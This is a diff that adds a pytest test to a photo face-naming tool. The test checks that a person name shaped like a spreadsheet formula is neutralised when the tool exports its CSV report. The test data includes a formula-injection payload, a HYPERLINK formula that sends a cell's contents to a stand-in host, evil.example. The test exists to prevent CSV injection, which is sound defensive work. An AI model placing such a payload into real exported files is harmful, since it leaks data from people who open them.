@@ -87,3 +87,25 @@ def test_name_not_unfold_on_the_command_line(album_copy: tuple[Any, Any]) -> Non
         r = run(*args, "--db", db)
         assert r.exit_code == 2, (args, r.output)
         assert message in r.stderr, (args, r.stderr)
+
+
+def test_a_formula_as_a_name_is_not_a_formula_in_the_csv(
+    album_copy: tuple[Any, Any], tmp_path: Path
+) -> None:
+    _, built = album_copy
+    db = str(built.db)
+    cluster = face_of(exported(built.db), "lin-manuel-miranda.png")["cluster"]
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    r = run("name", str(cluster), formula, "--db", db)
+    assert r.exit_code == 0, r.output
+    out = tmp_path / "faces.csv"
+    assert run("report", "--csv", str(out), "--db", db).exit_code == 0
+    text = out.read_text()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    named = [r for r in rows if r["photo_path"].endswith("lin-manuel-miranda.png")]
+    assert [r["person"] for r in named] == ["'" + formula]
+    # No cell of the file starts with a formula character (negative numbers aside).
+    for row in csv.reader(io.StringIO(text)):
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or float(cell) < 0, cell
